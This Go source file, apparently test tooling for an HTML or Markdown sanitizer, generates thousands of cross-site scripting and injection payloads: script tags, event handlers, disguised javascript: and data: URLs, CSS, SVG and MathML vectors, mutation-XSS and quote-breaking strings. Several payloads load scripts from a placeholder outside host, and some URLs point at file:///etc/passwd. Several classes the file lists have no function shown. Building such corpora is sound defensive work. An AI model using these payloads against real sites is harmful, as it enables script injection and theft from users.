package hostile

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"slices"
	"strings"
)

// Classes are the ways a text is known to get out of its place. Most are
// products: what carries, times what starts it, times how it is disguised.
var Classes = []Class{
	{"script elements", "script, in any case, with odd separators, unclosed, nested, from elsewhere", scripts},
	{"event handlers", "elements × events × what separates them", handlers},
	{"addresses", "schemes × entities, blanks and control characters in them × what carries an address", addresses},
	{"styles", "style elements and attributes that load, bind or cover", styles},
	{"drawings", "SVG: script, animation, foreignObject, use, handlers", drawings},
	{"formulas", "MathML: links, actions, annotations", formulas},
	{"mutation", "markup that means something else when it is parsed a second time or in another namespace", mutations},
	{"break-out", "what ends quotes, comments, CDATA, raw text and scripts × what then runs", breakouts},
	{"templates", "the marks of template languages, ours among them", templates},
	{"data blocks", "what ends JSON, JSON-LD and JavaScript", dataBlocks},
	{"XML", "entities, stylesheets, CDATA and namespaces in feeds and sitemaps", xmls},
	{"calendars", "line ends and properties of iCalendar", calendars},
	{"Markdown", "attributes, directives, fences, references and ids of our dialect", markdowns},
	{"clobbering", "names that shadow those a script relies on", clobbers},
	{"documents", "meta refresh, base, link, frames, forms and objects", documents},
	{"characters", "what is not seen: control characters, directions, line separators, escapes of terminals", characters},
	{"letters", "what ends an address for letters, and commands in logs", letters},
}

// runs are what the program is, written in ways that filters overlook.
var runs = []string{"trip(1)", "trip`1`", "top['tr'+'ip'](1)", "\\u0074rip(1)", "eval(atob('dHJpcCgxKQ=='))", "&#116;rip(1)"}

func scripts() []string {
	out := []string{
		"<script>trip(1)", "<script>trip(1)<!--", "<scr<script>ipt>trip(1)</scr</script>ipt>", "<<script>trip(1)//<</script>",
		"<script x>trip(1)</script y>", "<script\x00>trip(1)</script>", "<scr\x00ipt>trip(1)</script>", "%3Cscript%3Etrip(1)%3C/script%3E",
		"&lt;script&gt;trip(1)&lt;/script&gt;", "&#60;script&#62;trip(1)&#60;/script&#62;", "\uff1cscript\uff1etrip(1)\uff1c/script\uff1e",
		"+ADw-script+AD4-trip(1)+ADw-/script+AD4-", "\u02bascript\u02ba>trip(1)", "<ſcript>trip(1)</ſcript>", "<script>/*\n\n*/trip(1)</script>",
		"<script type=module>trip(1)</script>", "<script type=text/plain>x</script><script>trip(1)</script>", "<svg:script>trip(1)</svg:script>",
		"<script async src=data:text/javascript,trip(1)></script>", "<script type=importmap>{}</script>", "<script nomodule>trip(1)</script>",
		"<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://elsewhere.invalid/\"]}]}</script>",
	}
	for _, tag := range []string{"script", "SCRIPT", "sCrIpT"} {
		for _, gap := range []string{"", " ", "\t", "\n", "\f", "/", " /", "\r", " a=b ", " a='>' "} {
			for _, run := range runs {
				out = append(out, "<"+tag+gap+">"+run+"</"+tag+">")
			}
			for _, from := range []string{"//" + Elsewhere + "/x.js", "https://" + Elsewhere + "/x.js", "\\\\" + Elsewhere + "\\x.js", "https:" + Elsewhere} {
				out = append(out, "<"+tag+gap+" src="+from+"></"+tag+">")
			}
		}
	}
	return out
}

func handlers() []string {
	elements := []string{
		"img src='x'", "svg", "body", "input autofocus", "details open", "video", "audio src='x'", "marquee", "iframe", "object data='x'", "a id=x tabindex='1'", "div",
		"math", "select autofocus", "button autofocus", "style", "link rel=stylesheet href=x", "form", "b", "x", "table background='x'", "textarea autofocus", "video><source", "summary",
		"html", "keygen autofocus", "frameset", "isindex", "image src=x", "dialog open", "search", "menu",
	}
	events := []string{
		"onerror", "onload", "onfocus", "ontoggle", "onstart", "onpageshow", "onmouseover", "onclick", "onpointerenter", "onanimationstart", "ontransitionend", "onbeforetoggle",
		"ONERROR", "oNlOaD", "onscroll", "onwheel", "onbegin", "onhashchange", "onunhandledrejection", "on\u0065rror",
	}
	var out []string
	for i, element := range elements {
		for j, event := range events {
			for k, gap := range []string{" ", "/", "\n", "\t", "\f", "\r\n"} {
				if (i+j+k)%2 == 0 {
					run := runs[(i+j)%len(runs)]
					out = append(out, fmt.Sprintf("<%s%s%s=%s>", element, gap, event, run))
				}
			}
			out = append(out, fmt.Sprintf("<%s %s=\"%s\"/>", element, event, runs[j%len(runs)]), fmt.Sprintf("<%s %s\n=\n'%s'", element, event, runs[i%len(runs)]))
		}
	}
	return out
}

// targets are addresses that run something or lead to where nothing may.
func targets() []string {
	disguise := func(scheme string) []string {
		first, rest := scheme[:1], scheme[1:]
		return []string{
			scheme + ":", " " + scheme + ":", "\x01" + scheme + ":", "\u00a0" + scheme + ":", "\ufeff" + scheme + ":", "\u2028" + scheme + ":",
			first + "\t" + rest + ":", first + "\n" + rest + ":", first + "\r\n" + rest + ":", first + "\x00" + rest + ":", strings.ToUpper(scheme) + ":",
			strings.ToUpper(first) + rest + ":", fmt.Sprintf("&#%d;%s:", first[0], rest), fmt.Sprintf("&#x%X;%s:", first[0], rest), fmt.Sprintf("&#%07d%s:", first[0], rest),
			scheme + "&colon;", scheme + "&#58;", scheme + "&#x3a", first + "&Tab;" + rest + ":", first + "&NewLine;" + rest + ":", "&#1;" + scheme + ":",
			fmt.Sprintf("%%%X%s:", first[0], rest), scheme + "%3A", scheme + "\\:", "\\" + scheme + ":", scheme + "\uff1a", scheme + "\t:", scheme + " :",
			"/" + scheme + ":", "./" + scheme + ":", "//" + scheme + ":", "x:" + scheme + ":", "?" + scheme + ":", "#" + scheme + ":",
		}
	}
	var out []string
	for scheme, rest := range map[string]string{
		"javascript": "trip(1)", "vbscript": "trip(1)", "data": "text/html,<script>trip(1)</script>", "livescript": "trip(1)", "file": "///etc/passwd",
		"blob": "https://" + Elsewhere + "/x", "filesystem": "https://" + Elsewhere + "/x", "view-source": "javascript:trip(1)", "feed": "javascript:trip(1)",
	} {
		for _, start := range disguise(scheme) {
			out = append(out, start+rest)
		}
	}
	out = append(out,
		"javascript://%0atrip(1)", "javascript:/*--></title></style></textarea></script><svg/onload=trip(1)>", "javascript:'<script>trip(1)</script>'",
		"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='trip(1)'/>", "data:text/html;base64,"+base64.StdEncoding.EncodeToString([]byte("<script>trip(1)</script>")),
		"data:application/xhtml+xml,<x/>", "data:,trip(1)", "javascript:"+url.QueryEscape("trip(1)"), "//"+Elsewhere+"/x", "\\\\"+Elsewhere+"\\x", "/\\"+Elsewhere+"/x",
		"https:\\\\"+Elsewhere, "ht\ntps://"+Elsewhere+"/", "intent://x#Intent;end", "ms-word:ofe|u|x", "about:blank", "chrome://x", "mocha:trip(1)", "jar:https://"+Elsewhere+"/a!/b",
	)
	slices.Sort(out) // a map was ranged over
	return out
}

func addresses() []string {
	carriers := []string{
		"%s", "[x](%s)", "[x](<%s>)", "![x](%s)", "![x](<%s> \"t\")", "<%s>", "[x]\n\n[x]: %s", "[x]\n\n[x]: <%s> 't'", "[[%s]]", "[[%s|x]]",
		"<a href=\"%s\">x</a>", "<a href='%s'>x</a>", "<a href=%s>x</a>", "<a xlink:href=\"%s\">x</a>", "<img src=\"%s\">", "<img srcset=\"%s 1x\">", "<iframe src=\"%s\"></iframe>",
		"<form action=\"%s\"><input type=submit></form>", "<button formaction=\"%s\">x</button>", "<object data=\"%s\"></object>", "<embed src=\"%s\">", "<base href=\"%s\">",
		"<meta http-equiv=refresh content=\"0;url=%s\">", "<svg><a xlink:href=\"%s\"><text>x</text></a></svg>", "<math href=\"%s\">x</math>", "<area href=\"%s\">", "<link rel=stylesheet href=\"%s\">",
		"<video poster=\"%s\"></video>", "<q cite=\"%s\">x</q>", "<body background=\"%s\">", "<a ping=\"%s\" href=/>x</a>", ":::note[[x](%s)]\n:::", "x[^1]\n\n[^1]: [x](%s)", "[![x](%s)](%s)",
	}
	var out []string
	for i, target := range targets() {
		for j, carrier := range carriers {
			if (i+j)%4 == 0 || j < 3 {
				out = append(out, strings.ReplaceAll(carrier, "%s", target))
			}
		}
	}
	return out
}

func styles() []string {
	out := []string{
		"<style>@import 'https://" + Elsewhere + "/x.css'</style>", "<style>*{background:url(//" + Elsewhere + "/x)}</style>", "<style><img src=x onerror=trip(1)></style>",
		"</style><img src=x onerror=trip(1)>", "<link rel=stylesheet href=//" + Elsewhere + ">", "<style>@font-face{font-family:x;src:url(//" + Elsewhere + "/f)}</style>",
		"{style=\"background:url(//" + Elsewhere + ")\"}", "# h {style=\"position:fixed;inset:0\"}", ":::note{style=\"x:y\"}\nx\n:::", "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=trip(1)>",
	}
	for _, element := range []string{"b", "div", "p", "span", "table", "td", "img", "svg", "a"} {
		for _, css := range []string{
			"background:url(//" + Elsewhere + "/x)", "width:expression(trip(1))", "-moz-binding:url(//" + Elsewhere + "/x#y)", "behavior:url(#default)", "position:fixed;inset:0;z-index:9",
			"list-style:url(javascript:trip(1))", "back\\67round:u\\72l(//" + Elsewhere + ")", "background:&#117;rl(//" + Elsewhere + ")", "content:'</style><script>trip(1)</script>'",
		} {
			out = append(out, fmt.Sprintf("<%s style=\"%s\">x</%s>", element, css, element))
		}
	}
	return out
}

func drawings() []string {
	inner := []string{
		"<script>trip(1)</script>", "<script href=//" + Elsewhere + "/x.js />", "<script xlink:href=data:,trip(1) />", "<animate onbegin=trip(1) attributeName=x dur=1s>",
		"<set attributeName=onmouseover to=trip(1)>", "<animate attributeName=href values=javascript:trip(1) /><a id=x><text>x</text></a>", "<foreignObject><iframe srcdoc='<script>parent.trip(1)</script>'></foreignObject>",
		"<foreignObject><img src=x onerror=trip(1)></foreignObject>", "<use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>trip(1)</script></svg>#x\" />",
		"<image href=//" + Elsewhere + "/x.png>", "<feImage href=//" + Elsewhere + "/x>", "<a href=javascript:trip(1)><rect width=99 height=99 /></a>", "<handler type='application/ecmascript'>trip(1)</handler>",
		"<style>@import '//" + Elsewhere + "'</style>", "<title><img src=x onerror=trip(1)></title>", "<desc><script>trip(1)</script></desc>", "<![CDATA[<img src=x onerror=trip(1)>]]>", "<p><script>trip(1)</script>",
		"<rect fill='url(//" + Elsewhere + "#x)' />", "<filter id=f><feImage xlink:href=javascript:trip(1) /></filter>", "<discard onbegin=trip(1) />",
	}
	var out []string
	for _, open := range []string{"<svg>", "<SVG>", "<svg xmlns='http://www.w3.org/2000/svg'>", "<svg/onload=trip(1)>", "<svg\n>", "<svg><g>", "<img alt='<svg>"} {
		for _, in := range inner {
			out = append(out, open+in+"</svg>", open+in)
		}
	}
	return out
}

func formulas() []string {
	var out []string
	for _, in := range []string{
		"<maction actiontype=statusline#javascript:trip(1)>x</maction>", "<mtext><script>trip(1)</script></mtext>", "<annotation-xml encoding=text/html><script>trip(1)</script></annotation-xml>",
		"<mi xlink:href=javascript:trip(1)>x</mi>", "<mrow href=javascript:trip(1)>x</mrow>", "<mglyph><style><img src=x onerror=trip(1)></style></mglyph>", "<semantics><annotation-xml><iframe srcdoc=x></annotation-xml></semantics>",
		"<malignmark><img src=x onerror=trip(1)>", "<mo><img src=x onerror=trip(1)></mo>",
	} {
		for _, open := range []string{"<math>", "<MATH>", "<math href=javascript:trip(1)>", "<math xmlns=http://www.w3.org/1998/Math/MathML>", "$$", "\\("} {
			out = append(out, open+in+"</math>", "x "+open+in)
		}
	}
	return out
}

func mutations() []string {
	img := "<img src=x onerror=trip(1)>"
	out := []string{
		"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=trip(1)&gt;\">",
		"<form><math><mtext></form><form><mglyph><style></math><img src onerror=trip(1)>", "<svg></p><style><a id=\"</style>" + img + "\">",
		"<noscript><p title=\"</noscript>" + img + "\">", "<select><template><style><!--</style><a rel=\"--></style></template></select>" + img + "\">",
		"<math><annotation-xml encoding=\"text/html\"><style>" + img + "</style></annotation-xml></math>", "<svg><style><!--</style>" + img + "--></svg>",
		"<table><caption><svg><style>" + img, "<a><svg><desc><a><style><!--</style>" + img, "<![CDATA[><script>trip(1)</script>]]>", "<!--><script>trip(1)</script>-->", "<!---><script>trip(1)</script>-->",
		"<!-- --!><script>trip(1)</script>-->", "<!--[if gte IE 4]><script>trip(1)</script><![endif]-->", "<? foo=\"><script>trip(1)</script>\">", "<! foo=\"><script>trip(1)</script>\">", "</ foo=\"><script>trip(1)</script>\">",
		"<% foo><x foo=\"%><script>trip(1)</script>\">", "<!DOCTYPE x [<!ENTITY y \"<script>trip(1)</script>\">]>", "<p>" + strings.Repeat("<b><i>", 20) + img, "<table><td>" + img + "</table>", "<b/" + img,
		"<option><style></option></select><b>" + img + "</style></option>", "<listing>&lt;img onerror=trip(1) src&gt;</listing>", "<template shadowrootmode=open>" + img + "</template>", "<img alt=`` onerror=trip(1) src=x>",
		"<img alt=\"``onerror=trip(1)\" src=x>", "<a title='\">" + img + "'>x</a>", "<abbr title=\"</abbr>" + img + "\">x</abbr>", "<time datetime='\"><img src=x onerror=trip(1)>'>x</time>",
	}
	for _, raw := range []string{"xmp", "noembed", "noframes", "plaintext", "textarea", "title", "style", "script", "iframe", "noscript", "template", "listing", "select", "svg", "math", "details", "ruby", "dl", "table", "pre"} {
		out = append(out, "<"+raw+">"+img, "<"+raw+"></"+raw+">"+img, "<"+raw+" title=\"</"+raw+">"+img+"\">", "</"+raw+">"+img, "<"+raw+"><!--</"+raw+">"+img+"-->", "<"+raw+"><a title=\"</"+raw+">"+img+"\">",
			"<svg><"+raw+"><style>"+img+"</style></"+raw+"></svg>", "<math><mi><"+raw+"><mglyph><style>"+img, "`<"+raw+">`"+img, "<"+strings.ToUpper(raw)+"\n>"+img)
	}
	return out
}

func breakouts() []string {
	var out []string
	for _, end := range []string{
		"\"", "'", "`", "\">", "'>", "`>", "\"'>", "-->", "--!>", "]]>", "?>", "%>", "}}", "</script>", "</SCRIPT >", "</script\t", "</title>", "</style>", "</textarea>", "</noscript>", "</svg>", "</math>", "</template>", "</select>",
		"</a>", "</main></body>", "</html>", "*/", "*/</script>", "\\\"", "\\\\\"", "\\u0022>", "\\x22>", "%22%3E", "&quot;>", "&#34;>", "&#x22>", "\u2028", "\u2029", "\n", "\r\n", "\x00\">", "\ufeff\">", "\";", "');", "\"}]}", "<!--", "<![CDATA[", "${", "\\",
	} {
		for _, then := range []string{
			"<img src=x onerror=trip(1)>", "<script>trip(1)</script>", "<svg/onload=trip(1)>", " onfocus=trip(1) autofocus x=", " onmouseover=trip(1) ", ";trip(1)//", "+trip(1)+", "-trip(1)-", "<iframe srcdoc='<script>parent.trip(1)</script>'>",
			" style=background:url(//" + Elsewhere + ") ", "<base href=//" + Elsewhere + ">", "<meta http-equiv=refresh content=0;url=//" + Elsewhere + ">",
		} {
			out = append(out, end+then)
		}
	}
	return out
}
